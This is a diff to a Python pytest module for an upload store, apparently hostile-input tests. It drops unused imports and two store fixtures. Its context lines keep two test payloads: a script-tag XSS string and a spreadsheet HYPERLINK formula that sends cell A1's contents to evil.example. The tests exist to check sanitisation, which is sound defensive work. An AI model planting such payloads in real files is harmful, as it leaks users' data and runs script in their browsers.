@@ -3,31 +3,16 @@ from __future__ import annotations
 
 import io
 import re
-from pathlib import Path
 
 import pytest
 
 from store import uploads
 from model.errors import InputError
-from store.versioned import Store
 
-from .analyst_kit import VANCOUVER, analyst, check, demo_store, errors, fresh_store, ok, read_csv, texts, upload
+from .analyst_kit import VANCOUVER, analyst, check, errors, ok, read_csv, texts, upload
 
 SCRIPT = "<script>alert('x')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-@pytest.fixture(scope="module")
-def demo(tmp_path_factory) -> Path:
-    return demo_store(tmp_path_factory.mktemp("hostile-demo"))
-
-
-@pytest.fixture
-def store(demo, tmp_path, monkeypatch) -> Store:
-    root = fresh_store(demo, tmp_path / "store")
-    monkeypatch.setenv("BRIDGES_DATA_DIR", str(root))
-    monkeypatch.delenv("BRIDGES_MAX_UPLOAD_MB", raising=False)
-    return Store(root)
 
 
 def _no_html(at) -> None:
